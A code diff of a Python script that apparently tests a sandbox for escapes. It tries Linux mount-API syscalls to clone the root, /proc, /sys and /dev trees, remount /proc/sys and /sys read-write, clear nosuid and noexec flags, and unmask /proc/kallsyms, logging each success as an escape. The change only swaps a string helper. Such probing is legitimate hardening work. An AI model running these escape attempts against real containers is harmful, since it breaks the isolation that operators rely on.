@@ -2,7 +2,7 @@
 import ctypes
 import os
 
-from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401
+from _attack import ESCAPES, NOTES, cstr, en, finish, libc, sysc  # noqa: F401
 
 import struct  # noqa: E402
 
@@ -16,20 +16,16 @@ MOVE_MOUNT_F_EMPTY_PATH = 4
 MOUNT_ATTR_RDONLY, MOUNT_ATTR_NOSUID, MOUNT_ATTR_NODEV, MOUNT_ATTR_NOEXEC = 1, 2, 4, 8
 
 
-def b(s):
-    return ctypes.c_char_p(s.encode())
-
-
 def main():
     target = "/tmp/fbx-newmnt"
     os.makedirs(target, exist_ok=True)
     for fstype in ("tmpfs", "proc", "sysfs", "cgroup", "cgroup2", "devtmpfs", "mqueue", "overlay", "binfmt_misc"):
-        fd, e = sysc(SYS_fsopen, b(fstype), 1)
+        fd, e = sysc(SYS_fsopen, cstr(fstype), 1)
         if fd < 0:
             NOTES.append("fsopen(%s): %s" % (fstype, en(e)))
             continue
         if fstype == "cgroup":
-            sysc(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, b("memory"), None, 0)
+            sysc(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, cstr("memory"), None, 0)
         r, e = sysc(SYS_fsconfig, fd, FSCONFIG_CMD_CREATE, None, None, 0)
         if r < 0:
             ESCAPES.append("fsopen(%s) gave a filesystem context (create then failed: %s)" % (fstype, en(e)))
@@ -38,7 +34,7 @@ def main():
         mfd, e = sysc(SYS_fsmount, fd, 1, 0)
         if mfd >= 0:
             ESCAPES.append("fsmount created a detached %s mount" % fstype)
-            r, e = sysc(SYS_move_mount, mfd, b(""), AT_FDCWD, b(target), MOVE_MOUNT_F_EMPTY_PATH)
+            r, e = sysc(SYS_move_mount, mfd, cstr(""), AT_FDCWD, cstr(target), MOVE_MOUNT_F_EMPTY_PATH)
             if r == 0:
                 ESCAPES.append("move_mount attached %s at %s" % (fstype, target))
             os.close(mfd)
@@ -47,10 +43,10 @@ def main():
         os.close(fd)
     # clone existing trees: an unmasked copy of /proc or of the root
     for src in ("/proc", "/", "/sys", "/dev"):
-        fd, e = sysc(SYS_open_tree, AT_FDCWD, b(src), OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE)
+        fd, e = sysc(SYS_open_tree, AT_FDCWD, cstr(src), OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE)
         if fd >= 0:
             ESCAPES.append("open_tree(%s, OPEN_TREE_CLONE) gave a detached copy of the mount tree" % src)
-            r, e = sysc(SYS_move_mount, fd, b(""), AT_FDCWD, b(target), MOVE_MOUNT_F_EMPTY_PATH)
+            r, e = sysc(SYS_move_mount, fd, cstr(""), AT_FDCWD, cstr(target), MOVE_MOUNT_F_EMPTY_PATH)
             if r == 0:
                 ESCAPES.append("attached the copy of %s at %s" % (src, target))
             os.close(fd)
@@ -58,9 +54,9 @@ def main():
             NOTES.append("open_tree(%s, CLONE): %s" % (src, en(e)))
     # reconfigure a read-only superblock
     for src in ("/proc/sys", "/sys"):
-        fd, e = sysc(SYS_fspick, AT_FDCWD, b(src), 1)
+        fd, e = sysc(SYS_fspick, AT_FDCWD, cstr(src), 1)
         if fd >= 0:
-            r1, _ = sysc(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, b("rw"), None, 0)
+            r1, _ = sysc(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, cstr("rw"), None, 0)
             r2, e2 = sysc(SYS_fsconfig, fd, FSCONFIG_CMD_RECONFIGURE, None, None, 0)
             ESCAPES.append("fspick(%s) gave a reconfiguration context (reconfigure rw: %s)"
                            % (src, "ok" if r2 == 0 else en(e2)))
@@ -71,13 +67,13 @@ def main():
     for path, clr in (("/proc/sys", MOUNT_ATTR_RDONLY), ("/sys", MOUNT_ATTR_RDONLY), ("/", MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV),
                       ("/dev", MOUNT_ATTR_NOEXEC)):
         attr = ctypes.create_string_buffer(struct.pack("QQQQ", 0, clr, 0, 0))
-        r, e = sysc(SYS_mount_setattr, AT_FDCWD, b(path), AT_RECURSIVE, attr, 32)
+        r, e = sysc(SYS_mount_setattr, AT_FDCWD, cstr(path), AT_RECURSIVE, attr, 32)
         if r == 0:
             ESCAPES.append("mount_setattr cleared flags %#x on %s" % (clr, path))
         else:
             NOTES.append("mount_setattr(%s): %s" % (path, en(e)))
     # move a mask away
-    r, e = sysc(SYS_move_mount, AT_FDCWD, b("/proc/kallsyms"), AT_FDCWD, b(target), 0)
+    r, e = sysc(SYS_move_mount, AT_FDCWD, cstr("/proc/kallsyms"), AT_FDCWD, cstr(target), 0)
     if r == 0:
         ESCAPES.append("move_mount moved the /proc/kallsyms mask away")
     else:
